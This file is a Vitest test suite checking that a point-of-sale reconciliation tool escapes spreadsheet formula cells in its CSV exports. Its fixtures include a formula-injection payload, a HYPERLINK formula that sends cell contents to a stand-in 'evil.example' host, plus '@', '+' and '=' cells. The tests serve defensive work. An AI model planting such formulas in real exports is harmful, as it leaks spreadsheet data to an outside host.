import {mkdtemp, readFile, writeFile} from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import {parse} from 'csv-parse/sync'
import {describe, expect, it} from 'vitest'

import {reconcile} from '../../src/recon/engine.js'
import {importFile} from '../../src/recon/import.js'
import {openReconSink, openTransactionSink} from '../../src/recon/output.js'
import {BUILT_IN_PROFILES} from '../../src/recon/profiles.js'
import {TRANSACTION_COLUMNS, type TxRecord} from '../../src/recon/record.js'

// a journal whose text cells carry spreadsheet formulas (a TMS export can, by mistake or malice)
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
function journal(): string {
  const row: Record<string, string> = {
    time: '2026-03-05 10:00:00',
    type: 'sale',
    amount: '10.00',
    currency: 'EUR',
    pan_masked: '************0119',
    card_type: EVIL,
    trace_number: '1',
    receipt_number: '1',
    auth_code: '111111',
    terminal_id: '@SUM(1+1)',
    merchant_id: '+cmd',
    batch_number: '12',
    batch_open: 'no',
    result_code: '00',
    result_scheme: 'iso8583',
    state: 'approved',
  }
  const cell = (v: string) => (/[",]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v)
  return `${TRANSACTION_COLUMNS.join(',')}\n${TRANSACTION_COLUMNS.map((k) => cell(row[k] ?? '')).join(',')}\n`
}

async function files() {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'posdoc-csvguard-'))
  const jf = path.join(dir, 'journal.csv')
  await writeFile(jf, journal())
  const sf = path.join(dir, 'settlement.csv')
  await writeFile(sf, 'settlement_date,merchant_id,terminal_id,trace_number,txn_time,txn_type,amount_cents,status\n2026-03-06,-2+3,=1+1,7,2026-03-05 11:00:00,sale,500,settled\n')
  return {dir, jf, sf}
}

const cellsOf = (text: string) => parse(text.replace(/^\uFEFF/, ''), {columns: true}) as Array<Record<string, string>>

describe('CSV injection guard on every CSV posdoc writes', () => {
  it('recon --out: formula cells from either file come out as text', async () => {
    const {dir, jf, sf} = await files()
    const out = path.join(dir, 'recon.csv')
    const sink = openReconSink(out, 'csv')
    await reconcile({journalFiles: [jf], settlementFiles: [sf], profiles: BUILT_IN_PROFILES, lang: 'en', sink, parallel: false})
    await sink.close()
    const text = await readFile(out, 'utf8')
    const rows = cellsOf(text)
    expect(rows).toHaveLength(2)
    const tids = rows.map((r) => r.terminal_id).sort()
    expect(tids).toEqual(["'=1+1", "'@SUM(1+1)"])
    // no line of the file starts a cell with a formula character any more
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/)
  })

  it('logs import --out: the transaction list neutralises =HYPERLINK, @ and + cells', async () => {
    const {dir, jf} = await files()
    const out = path.join(dir, 'tx.csv')
    const sink = openTransactionSink(out, 'csv', 'en')
    await importFile(jf, {profiles: BUILT_IN_PROFILES, onRecord: (r: TxRecord) => sink.write(r)})
    await sink.close()
    const [row] = cellsOf(await readFile(out, 'utf8'))
    expect(row!.card_type).toBe(`'${EVIL}`)
    expect(row!.terminal_id).toBe("'@SUM(1+1)")
    expect(row!.merchant_id).toBe("'+cmd")
    // amounts stay numbers
    expect(row!.amount).toBe('10.00')
  })
})
